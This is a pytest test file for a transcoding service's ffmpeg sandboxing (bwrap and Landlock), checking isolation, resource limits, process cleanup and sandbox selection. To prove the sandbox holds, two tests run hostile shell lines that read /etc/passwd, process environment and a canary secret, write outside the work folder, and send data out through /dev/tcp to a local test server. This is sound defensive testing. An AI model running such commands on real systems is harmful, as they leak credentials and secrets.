"""The walls around ffmpeg: what holds inside them, what goes on working, and which are taken."""

import os
import signal
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from structlog.testing import capture_logs

from tests.flow import odd_clips
from tests.flow.test_media import QUICK
from tests.hostile.conftest import SECRET, Farm
from tests.unit.ffmpeg.test_runner import gone, written
from transcode import errors
from transcode.ffmpeg import failures, seen
from transcode.ffmpeg.binaries import at_hand
from transcode.ffmpeg.encoder import FfmpegEncoder
from transcode.ffmpeg.runner import Limits, run
from transcode.ffmpeg.sandbox import OPEN, Kind, Sandbox

MINUTE = Limits(seconds=60.0)
PROGRAMS = (at_hand().ffmpeg, at_hand().ffprobe)


def of(kind: Kind) -> Sandbox:
    return next(seen._candidates(kind.value, PROGRAMS))


FAULTS = {kind: seen.fault_of(of(kind)) for kind in (Kind.BWRAP, Kind.LANDLOCK)}


@pytest.fixture(params=list(FAULTS), ids=str)
def box(request: pytest.FixtureRequest) -> Sandbox:
    """Each sandbox that holds on this machine."""
    kind: Kind = request.param
    if FAULTS[kind]:
        pytest.skip(f"{kind} does not hold here: {FAULTS[kind]}")
    return of(kind)


def script(text: str) -> list[str]:
    return ["/bin/sh", "-c", text]


def test_where_there_are_no_walls_that_is_seen() -> None:
    assert seen.fault_of(Sandbox(Kind.NONE, PROGRAMS)) == "A file outside can be read from inside."


def test_a_program_that_needs_more_than_it_is_given_is_seen(box: Sandbox, tmp_path: Path) -> None:
    wrapper = tmp_path / "ffmpeg"
    (tmp_path / "settings").write_text("x")
    wrapper.write_text(f'#!/bin/sh\nread setting < {tmp_path}/settings || exit 1\nexec {PROGRAMS[0]} "$@"\n')
    wrapper.chmod(0o755)
    assert "ffmpeg does not work inside" in seen.fault_of(replace(box, programs=(wrapper, PROGRAMS[1])))


def test_all_seven_renditions_are_made_inside(box: Sandbox, farm: Farm) -> None:
    farm.encoder = FfmpegEncoder(replace(at_hand(), sandbox=box), threads=2)
    odd_clips.ffmpeg(farm.folder, f"{odd_clips.X264} -c:a aac clip.mp4", odd_clips.MOVING, "anoisesrc=d=2:c=pink:a=0.3")
    assert set(farm.render(farm.folder / "clip.mp4", QUICK)) == {preset.name for preset in QUICK}


def test_the_outside_is_neither_read_nor_written_nor_called(box: Sandbox, farm: Farm) -> None:
    out = farm.folder / "out"
    out.mkdir()
    host, port = farm.address.split(":")
    text = f"""
        cat {farm.canary}; cat /etc/passwd; cat /proc/{os.getpid()}/environ
        touch {farm.folder}/escaped; touch /usr/escaped; echo > {farm.canary}; kill -9 {os.getpid()}
        echo hello > inside
        echo hello > /dev/tcp/{host}/{port}
    """
    before = farm.canary.read_bytes()
    # Only bash can connect by itself; that it does without walls is seen below.
    ended = run(["/bin/bash", "-c", text], MINUTE, folder=out, cell=box.cell([], out))
    assert ended.answer == ""
    assert (out / "inside").read_text() == "hello\n"
    assert not (farm.folder / "escaped").exists()
    assert not Path("/usr/escaped").exists()
    assert farm.canary.read_bytes() == before
    assert SECRET in before
    farm.untouched()


def test_without_walls_the_same_would_be_read_and_called(farm: Farm) -> None:
    """The test above can fail."""
    host, port = farm.address.split(":")
    text = f"cat {farm.canary}; echo hello > /dev/tcp/{host}/{port}"
    assert SECRET.decode() in run(["/bin/bash", "-c", text], MINUTE, cell=OPEN.cell()).answer
    farm.server.accept()[0].close()


def test_the_input_is_read_and_not_written(box: Sandbox, tmp_path: Path) -> None:
    upload, out = tmp_path / "input", tmp_path / "out"
    upload.write_text("film")
    out.mkdir()
    text = f"cat {upload}; echo changed > {upload}; rm -f {upload}; mv {upload} {out}/"
    assert run(script(text), MINUTE, folder=out, cell=box.cell([upload], out)).answer == "film"
    assert upload.read_text() == "film"


def test_how_it_ended_comes_through(box: Sandbox) -> None:
    ended = run(script("echo yes; echo no >&2; exit 3"), MINUTE, cell=box.cell())
    assert (ended.status, ended.answer, ended.words) == (3, "yes\n", "no\n")
    assert run(script("kill -SEGV $$"), MINUTE, cell=box.cell()).status == -signal.SIGSEGV


@pytest.mark.parametrize("walled", [True, False])
def test_the_limits_hold_for_what_is_inside(walled: bool, box: Sandbox, tmp_path: Path) -> None:
    limits = Limits(seconds=60.0, largest_file=512_000, address_space=2 * 1024**3)
    cell = (box if walled else OPEN).cell([], tmp_path)
    told = run(script("ulimit -c; ulimit -f; ulimit -n; ulimit -v; ulimit -t"), limits, folder=tmp_path, cell=cell)
    cpu = 60 * (os.cpu_count() or 1)
    assert told.answer.split() == ["0", "1000", "256", str(2 * 1024**2), str(cpu)]
    ended = run(script("exec dd if=/dev/zero of=big bs=64000 count=10"), limits, folder=tmp_path, cell=cell)
    assert ended.status == -signal.SIGXFSZ
    assert (tmp_path / "big").stat().st_size == 512_000


def test_a_run_that_burns_the_processor_is_ended_by_the_kernel() -> None:
    ended = run(script("ulimit -S -t 1; while :; do :; done"), MINUTE)
    assert ended.status == -signal.SIGXCPU
    told = failures.error(ended, ["ffmpeg"])
    assert isinstance(told, errors.EncoderTimeout)


def test_what_is_inside_goes_with_the_run(box: Sandbox, tmp_path: Path) -> None:
    """Its process numbers are its own, so it is known by a name that no other process has."""
    name = f"300.{os.getpid()}"
    ready = tmp_path / "ready"

    def check() -> None:
        if ready.exists():
            raise errors.Cancelled("The task was cancelled.")

    with pytest.raises(errors.Cancelled):
        run(
            script(f"sleep {name} & touch ready; wait"),
            MINUTE,
            folder=tmp_path,
            cell=box.cell([], tmp_path),
            check=check,
        )
    assert alive(name) == []


def test_a_killed_worker_takes_what_is_inside_along(box: Sandbox, tmp_path: Path) -> None:
    name = f"301.{os.getpid()}"
    pid = tmp_path / "pid"
    code = (
        "import sys\nfrom pathlib import Path\nfrom transcode.ffmpeg.runner import run, Limits\n"
        "from transcode.ffmpeg.sandbox import Sandbox, Kind\n"
        f"box = Sandbox(Kind({box.kind.value!r}), (), {box.bwrap!r})\nfolder = Path({str(tmp_path)!r})\n"
        f"run(['/bin/sh', '-c', 'echo $$ > pid; exec sleep {name}'], Limits(60.0), folder=folder, "
        "cell=box.cell([], folder))"
    )
    worker = subprocess.Popen([sys.executable, "-c", code], cwd=Path(__file__).parents[2])
    try:
        written(pid)
        inside = alive(name)
        assert inside
        os.kill(worker.pid, signal.SIGKILL)
    finally:
        worker.kill()
        worker.wait()
    assert all(gone(int(number)) for number in inside)


def alive(name: str) -> list[str]:
    """The processes with this word in their command."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and f"sleep\0{name}".encode() in (entry / "cmdline").read_bytes():
                found.append(entry.name)
        except OSError:
            continue
    return found


class TestWhichIsTaken:
    @pytest.fixture(autouse=True)
    def _no_memory(self) -> None:
        seen.sandbox.cache_clear()

    @pytest.fixture
    def without_bwrap(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr("transcode.ffmpeg.seen.shutil.which", lambda _: None)
        monkeypatch.setattr("transcode.ffmpeg.seen.find_spec", lambda _: None)

    def test_the_best_that_holds(self) -> None:
        holding = [kind for kind, fault in FAULTS.items() if not fault] or [Kind.NONE]
        with capture_logs() as lines:
            assert seen.sandbox("auto", *PROGRAMS).kind is holding[0]
        assert [(line["event"], line["kind"]) for line in lines] == [("Sandbox in force", holding[0].value)]

    @pytest.mark.usefixtures("without_bwrap")
    def test_one_that_is_asked_for_and_does_not_hold_stops_the_worker(self) -> None:
        with pytest.raises(errors.SettingsError, match=r"SANDBOX is wrong \(given: 'bwrap'\): There is no bwrap"):
            seen.sandbox("bwrap", *PROGRAMS)

    def test_one_whose_walls_have_a_door_stops_the_worker(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr("transcode.ffmpeg.landlock.enter", lambda _: None)
        with pytest.raises(errors.SettingsError, match="A file outside can be read from inside"):
            seen.sandbox("landlock", *PROGRAMS)

    @pytest.mark.usefixtures("without_bwrap")
    def test_without_any_the_worker_warns_and_says_why(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr("transcode.ffmpeg.landlock.version", lambda: 0)
        with capture_logs() as lines:
            assert seen.sandbox("auto", *PROGRAMS) == OPEN
        assert [(line["log_level"], line["kind"]) for line in lines] == [("warning", "none")]
        assert set(lines[0]["reasons"]) == {"bwrap", "landlock"}

    def test_none_is_taken_at_its_word_with_a_warning(self) -> None:
        with capture_logs() as lines:
            assert seen.sandbox("none", *PROGRAMS) == OPEN
        assert [line["log_level"] for line in lines] == ["warning"]
